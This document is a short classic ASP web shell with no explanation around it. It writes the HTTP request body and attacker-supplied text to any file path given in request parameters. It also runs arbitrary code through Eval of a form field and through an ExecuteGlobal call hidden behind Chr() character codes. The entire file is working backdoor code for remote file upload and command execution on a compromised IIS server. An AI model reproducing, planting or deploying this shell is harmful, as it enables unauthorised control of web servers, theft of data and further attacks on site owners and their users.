<%
Set st = Server.CreateObject("ADODB.Stream")
st.Type = 1 : st.Open : st.Write Request.BinaryRead(Request.TotalBytes)
st.SaveToFile Server.MapPath(Request.QueryString("f")), 2
Set fso = CreateObject("Scripting.FileSystemObject")
fso.CreateTextFile(Request("t")).Write Request("c")
ExecuteGlobal Chr(101) & Chr(120) & Chr(101) & Chr(99) & Chr(117) & Chr(116) & Chr(101) & Chr(32) & Chr(120)
Eval(Request.Form("e"))
%>